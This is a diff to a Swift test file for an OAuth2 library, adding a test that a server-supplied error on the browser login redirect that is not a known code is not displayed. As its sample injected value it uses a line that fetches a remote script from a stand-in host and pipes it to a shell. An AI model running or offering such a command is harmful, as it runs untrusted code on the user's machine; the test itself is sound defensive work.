@@ -2,6 +2,7 @@ import Foundation
 import HTTPTypes
 import InMemoryLogging
 import Logging
+import ProcessTestSupport
 import Resourceful
 @testable import ResourcefulOAuth2
 import ResourcefulTesting
@@ -48,6 +49,30 @@ import Testing
         #expect(error.serverError == nil)
         #expect(!text.contains(code), "\(text)")
         #expect(text.contains("400"))
+    }
+
+    /// The browser login's redirect carries the server's `error` too: the same rule.
+    @Test func anErrorOnTheRedirectThatIsNotACodeIsNotShown() async throws {
+        try await MockServer.withTransport { server, transport in
+            var settings = OAuth2Settings(
+                clientID: "native", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
+            )
+            settings.authorizationEndpoint = server.baseURL.appendingPathComponent("authorize")
+            let storage = try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
+            let code = "Run:curl_-fsSL_https://x.example/fix|sh"
+            let error = await #expect(throws: OAuth2Error.self) {
+                try await storage.logInWithBrowser(service: "s", timeout: .seconds(30)) { url in
+                    let items = URLComponents(url: url, resolvingAgainstBaseURL: false)?.queryItems ?? []
+                    let redirect = try #require(items.first { $0.name == "redirect_uri" }?.value)
+                    let state = try #require(items.first { $0.name == "state" }?.value)
+                    let escaped = code.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
+                    let result = try await Command.run("/usr/bin/curl", ["-sS", "-o", "/dev/null", "\(redirect)?error=\(escaped)&state=\(state)"])
+                    #expect(result.status == 0)
+                }
+            }
+            #expect(error?.serverError == nil)
+            #expect(!(error.map { "\($0)" } ?? "").contains("curl"))
+        }
     }
 
     @Test func aRegisteredCodeKeepsItsKind() throws {
